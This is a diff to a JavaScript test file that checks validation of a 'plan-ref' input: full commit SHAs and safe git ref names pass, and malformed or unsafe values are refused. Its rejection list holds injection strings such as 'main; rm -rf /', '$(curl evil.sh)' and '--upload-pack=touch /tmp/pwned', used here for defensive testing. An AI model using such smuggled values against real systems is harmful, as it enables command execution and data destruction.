@@ -86,6 +86,40 @@ describe('parseInputs', () => {
     expect(errors(given)).toEqual([message]);
   });
 
+  it('reads plan-ref: a full commit SHA or a safe ref name; empty is the checked-out commit', () => {
+    const sha1 = 'ec26c3e57ca3a959ca5aad62de7213c562f8c821';
+    const sha256 = 'a'.repeat(64);
+    expect(ok({ plan: 'p.md', stage: '1' }).planRef).toBeNull();
+    expect(ok({ plan: 'p.md', stage: '1', 'plan-ref': sha1 }).planRef).toBe(sha1);
+    expect(ok({ plan: 'p.md', stage: '1', 'plan-ref': ` ${sha256} ` }).planRef).toBe(sha256);
+    for (const ref of ['refs/pull/12/head', 'refs/heads/feature/x', 'feature/rate-limits', 'release-1.2']) expect(ok({ mode: 'status', 'plan-ref': ref }).planRef).toBe(ref);
+  });
+
+  it.each([
+    'main; rm -rf /',
+    '$(curl evil.sh)',
+    '--upload-pack=touch /tmp/pwned',
+    '-x',
+    'main..feature',
+    'HEAD@{1}',
+    'HEAD~1',
+    'feature^',
+    'refs/heads/.hidden',
+    'refs//heads/x',
+    'branch.lock',
+    'feature/',
+    'a b',
+    'HEAD',
+    // Abbreviated or upper-case SHAs are ambiguous: only a full lowercase SHA names one commit.
+    'ec26c3e',
+    'EC26C3E57CA3A959CA5AAD62DE7213C562F8C821',
+    'ec26c3e57ca3a959ca5aad62de7213c562f8c8211',
+  ])('refuses the plan-ref %j with one message naming the input', (value) => {
+    expect(errors({ plan: 'p.md', stage: '1', 'plan-ref': value })).toEqual([
+      `input "plan-ref": got "${value}"; expected a full commit SHA (40 or 64 lowercase hex digits) or a ref name such as refs/pull/12/head or feature/x (letters, digits and . _ / -; no "..")`,
+    ]);
+  });
+
   it('ties inputs to the mode, one message per input', () => {
     expect(errors({ mode: 'stage' })).toEqual(['input "plan" is required with mode stage (the plan file, e.g. .okstra/plans/my-plan.md)', 'input "stage" is required with mode stage']);
     expect(errors({ mode: 'chain', plan: 'p.md', stage: '2', 'check-run-id': '5' })).toEqual([
